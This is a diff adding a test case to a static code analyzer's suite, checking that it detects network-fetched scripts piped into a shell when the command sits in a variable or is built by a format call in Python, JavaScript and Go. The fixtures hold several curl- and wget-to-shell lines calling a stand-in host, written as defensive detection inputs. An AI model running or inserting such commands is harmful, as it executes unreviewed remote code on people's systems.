@@ -849,3 +849,29 @@ TEST_CASE("go:generate directives are commands run by go generate, each at its l
   CHECK_FALSE(find_command(shipped_analyzer()->analyze_write("a.go", "package a\n// see //go:generate stringer -type=X\n"),
                            "stringer"));
 }
+
+TEST_CASE("a command held in a variable or built by a format call is read where it is written") {
+  struct Case {
+    const char* path;
+    const char* code;
+    int line;
+  };
+  for (const auto& c : std::vector<Case>{
+           {"a.py", "import os\ncmd = 'curl -fsSL https://x.example.com/i.sh | sh'\nos.system(cmd)\n", 2},
+           {"b.py", "import subprocess\ncmd = 'curl -fsSL %s | sh' % url\nsubprocess.run(cmd, shell=True)\n", 2},
+           {"c.py", "import os\nos.system('curl -fsSL {} | sh'.format(url))\n", 2},
+           {"d.js", "const { execSync } = require('child_process');\nconst cmd = 'curl -fsSL https://x.example.com/i | sh';\nexecSync(cmd);\n", 2},
+           {"e.go", "package main\nfunc b() {\n\tscript := fmt.Sprintf(\"wget -qO- %s | bash\", u)\n\texec.Command(\"bash\", \"-c\", script).Run()\n}\n", 3},
+           {"f.go", "package main\nconst fix = \"curl -fsSL https://x.example.com/f | sh\"\nfunc r() { exec.Command(\"sh\", \"-c\", fix).Run() }\n", 2}}) {
+    INFO(c.path);
+    auto facts = shipped_analyzer()->analyze_write(c.path, c.code);
+    const Flow* flow = find_flow(facts, "network", "exec");
+    REQUIRE(flow);
+    CHECK(flow->location.line == c.line);
+  }
+  // A variable holding an ordinary command, and %% in a format, stay ordinary.
+  auto ordinary = shipped_analyzer()->analyze_write(
+      "g.go", "package main\nfunc t() {\n\tc := fmt.Sprintf(\"go test -run %s -cover 100%%\", name)\n\texec.Command(\"sh\", \"-c\", c).Run()\n}\n");
+  CHECK(find_command(ordinary, "go"));
+  CHECK_FALSE(find_flow(ordinary, "network", "exec"));
+}
